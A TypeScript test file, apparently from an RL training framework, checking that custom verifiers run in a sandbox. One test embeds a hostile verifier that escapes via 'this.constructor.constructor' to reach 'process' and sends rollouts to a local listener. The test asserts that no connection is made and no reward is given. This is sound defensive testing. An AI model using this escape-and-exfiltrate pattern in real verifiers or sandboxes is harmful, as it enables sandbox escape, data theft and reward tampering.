// A custom verifier from the example file, graded in the real sandbox during a (fake-engine) run:
// a hostile one gets no network and no reward, a 2 MB error message stays out of the events.
import assert from "node:assert/strict";
import * as path from "node:path";
import { after, before, test } from "node:test";
import { parseExample } from "../../../src/core/example/parse";
import { resolveConfig } from "../../../src/core/example/resolve";
import type { RolloutsEvent } from "../../../src/core/run/events";
import { RunController } from "../../../src/core/train/controller";
import { createVerifier } from "../../../src/core/verifier/index";
import { sandboxFixture, type SandboxFixture } from "../verifier/fixtures";
import { eventsOf, fakeEngine, project } from "./helpers";

let fx: SandboxFixture;
let sandboxPath = "";
let port = 0;
const connections = () => fx.connections();

before(async () => {
  fx = await sandboxFixture("oneshot-train-sandbox-");
  ({ sandboxPath, port } = fx);
});

after(() => fx.close());

async function train(verifier: string): Promise<RolloutsEvent[]> {
  const { root, example } = project();
  const parsed = parseExample(`---\nanswer: 4\n---\nWhat is 2+2?\n\n\`\`\`verifier\n${verifier}\n\`\`\`\n`, example);
  const r = resolveConfig({
    example: parsed.example!,
    runId: "sandboxed",
    projectRoot: root,
    cwd: root,
    preset: "cpu-demo",
    sets: ["model=fake-model", "steps=2", "prompt_copies=2", "rollouts=3", "eval_every=0", "checkpoint_every=0", "log_rollouts=6", "verifier_timeout_ms=1000"],
  });
  assert.ok(r.config, r.errors.join("\n"));
  assert.equal(r.config.example.verifier.kind, "custom");
  const runDir = path.join(root, "runs", "r");
  const out = await new RunController({
    config: r.config,
    runDir,
    engine: fakeEngine(),
    createVerifier: (spec, o) => createVerifier(spec, { ...o, sandboxPath }),
    projectRoot: root,
  }).run();
  assert.equal(out.status, "completed");
  return eventsOf(runDir).filter((e): e is RolloutsEvent => e.type === "rollouts");
}

test("a verifier in the example file that tries to exfiltrate rollouts gets no network and no reward", async () => {
  const rollouts = await train(`const F = this.constructor.constructor;
export default (response) => {
  try {
    const p = F("return process")();
    p.mainModule.require("net").connect(${port}, "127.0.0.1").end(response);
    return 1;
  } catch (e) {
    return 0;
  }
};`);
  const rewards = rollouts.flatMap((e) => e.rollouts.map((r) => r.reward));
  assert.ok(rewards.length > 0);
  assert.deepEqual(rewards, rewards.map(() => 0));
  await new Promise((r) => setTimeout(r, 200));
  assert.equal(connections(), 0, "the listener saw a connection");
});

test("a verifier's 2 MB error message is clipped in every rollout event", async () => {
  const rollouts = await train(`export default () => { throw new Error("y".repeat(2000000)); };`);
  const reasons = rollouts.flatMap((e) => e.rollouts.map((r) => r.reason ?? ""));
  assert.ok(reasons.length > 0);
  for (const reason of reasons) {
    assert.match(reason, /^Error: yyy/);
    assert.ok(reason.length <= 800, `a reason of ${reason.length} characters`);
    assert.equal(reason.split("Error: yyy").length, 2, "the error is named once");
  }
});
